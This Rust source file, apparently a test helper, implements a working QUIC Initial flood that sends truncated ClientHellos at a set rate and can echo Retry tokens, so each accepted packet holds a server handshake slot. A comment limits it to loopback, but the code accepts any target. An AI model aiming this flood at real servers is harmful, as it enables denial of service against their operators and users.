//! A flood of QUIC v1 Initial packets that each carry only the first part of a ClientHello:
//! the handshake can never finish, so every one the server accepts holds a pending-handshake
//! slot until the server gives up on it.
//!
//! The Initials are real ones: quinn-proto's own client builds them (a fresh connection, so a
//! fresh connection ID, per packet) with a ClientHello made larger than one datagram by a long
//! ALPN list; the flood sends the first datagram and never the rest. The server can decrypt
//! it (Initial keys derive from the connection ID) and starts a handshake. With
//! `answer_retry`, the flood also echoes a server's Retry once per connection (again with only
//! the first datagram), as an attacker who receives at its own address can.
//!
//! No I/O besides one UDP socket bound to `from`; use loopback addresses only.

use std::collections::HashMap;
use std::io::ErrorKind;
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use anyhow::{anyhow, Context, Result};
use bytes::BytesMut;
use quinn_proto::crypto::rustls::QuicClientConfig;
use quinn_proto::{ClientConfig, ConnectionHandle, DatagramEvent, Endpoint, EndpointConfig};

/// What a flood sent and saw.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub struct FloodStats {
    /// Initial datagrams sent for new connections.
    pub initials: u64,
    /// Retry packets received from the server.
    pub retries: u64,
    /// Initials sent again, with the Retry token (only with `answer_retry`).
    pub retried_initials: u64,
    /// Other datagrams received (acknowledgements, closes, refusals).
    pub other: u64,
}

/// A running flood; [`InitialFlood::stop`] ends it and returns its counts.
#[derive(Debug)]
pub struct InitialFlood {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<Result<FloodStats>>>,
}

impl InitialFlood {
    /// Starts sending `per_second` truncated Initials from a socket bound to `from` (port 0)
    /// to `target`, evenly spaced.
    pub fn start(
        target: SocketAddr,
        from: IpAddr,
        per_second: u32,
        answer_retry: bool,
    ) -> Result<Self> {
        anyhow::ensure!(per_second > 0, "per_second must be > 0");
        let socket = UdpSocket::bind(SocketAddr::new(from, 0)).context("bind flood socket")?;
        let config = client_config()?;
        let stop = Arc::new(AtomicBool::new(false));
        let flag = Arc::clone(&stop);
        let thread = std::thread::Builder::new()
            .name("quic-initial-flood".into())
            .spawn(move || run(socket, target, config, per_second, answer_retry, &flag))
            .context("spawn flood thread")?;
        Ok(Self {
            stop,
            thread: Some(thread),
        })
    }

    /// Stops the flood and returns what it sent and saw.
    pub fn stop(mut self) -> Result<FloodStats> {
        self.stop.store(true, Ordering::Relaxed);
        self.thread
            .take()
            .ok_or_else(|| anyhow!("flood already stopped"))?
            .join()
            .map_err(|_| anyhow!("flood thread panicked"))?
    }
}

impl Drop for InitialFlood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// A client whose ClientHello needs two or more datagrams (about 2.6 KB of ALPN names). The
/// server's certificate is never seen, so no verifier is needed beyond an empty root store.
fn client_config() -> Result<ClientConfig> {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let mut tls = rustls::ClientConfig::builder_with_provider(provider)
        .with_protocol_versions(&[&rustls::version::TLS13])?
        .with_root_certificates(rustls::RootCertStore::empty())
        .with_no_client_auth();
    tls.alpn_protocols = (0..10u8).map(|i| vec![b'a' + i; 250]).collect();
    let quic = QuicClientConfig::try_from(tls).map_err(|e| anyhow!("quic client config: {e}"))?;
    Ok(ClientConfig::new(Arc::new(quic)))
}

/// Long-header packet type of QUIC v1 (0 Initial, 1 0-RTT, 2 Handshake, 3 Retry).
fn long_type(d: &[u8]) -> Option<u8> {
    (d.len() >= 5 && d[0] & 0x80 != 0 && d[1..5] == [0, 0, 0, 1]).then(|| (d[0] >> 4) & 0x3)
}

fn run(
    socket: UdpSocket,
    target: SocketAddr,
    config: ClientConfig,
    per_second: u32,
    answer_retry: bool,
    stop: &AtomicBool,
) -> Result<FloodStats> {
    let mut endpoint = Endpoint::new(Arc::new(EndpointConfig::default()), None, false, None);
    let interval = Duration::from_secs(1) / per_second;
    let local_ip = socket.local_addr()?.ip();
    let mut stats = FloodStats::default();
    // Connections that may still see a Retry: handle -> (connection, started, retried).
    let mut live: HashMap<ConnectionHandle, (quinn_proto::Connection, Instant, bool)> =
        HashMap::new();
    let mut out = Vec::with_capacity(1500);
    let mut inbuf = vec![0u8; 65536];
    let mut next = Instant::now();
    while !stop.load(Ordering::Relaxed) {
        let now = Instant::now();
        if now >= next {
            next += interval;
            let (handle, mut conn) =
                endpoint.connect(now, config.clone(), target, "ferry.invalid")?;
            out.clear();
            if let Some(t) = conn.poll_transmit(now, 1, &mut out) {
                socket.send_to(&out[..t.size], target)?;
                stats.initials += 1;
            }
            live.insert(handle, (conn, now, false));
            // Forget connections too old to matter (the server's Retry comes within a round
            // trip); the endpoint then frees their connection IDs.
            let old: Vec<_> = live
                .iter()
                .filter(|(_, (_, t, _))| now.duration_since(*t) > Duration::from_secs(2))
                .map(|(h, _)| *h)
                .collect();
            for h in old {
                live.remove(&h);
                endpoint.handle_event(h, quinn_proto::EndpointEvent::drained());
            }
            continue;
        }
        socket.set_read_timeout(Some((next - now).max(Duration::from_micros(100))))?;
        let (n, from) = match socket.recv_from(&mut inbuf) {
            Ok(r) => r,
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => continue,
            Err(e) => return Err(e.into()),
        };
        let data = &inbuf[..n];
        if long_type(data) != Some(3) {
            stats.other += 1;
            continue;
        }
        stats.retries += 1;
        if !answer_retry {
            continue;
        }
        out.clear();
        let event = endpoint.handle(
            now,
            from,
            Some(local_ip),
            None,
            BytesMut::from(data),
            &mut out,
        );
        let Some(DatagramEvent::ConnectionEvent(handle, event)) = event else {
            continue;
        };
        let Some((conn, _, retried)) = live.get_mut(&handle) else {
            continue;
        };
        if *retried {
            continue;
        }
        *retried = true;
        conn.handle_event(event);
        out.clear();
        if let Some(t) = conn.poll_transmit(now, 1, &mut out) {
            socket.send_to(&out[..t.size], target)?;
            stats.retried_initials += 1;
        }
    }
    Ok(stats)
}
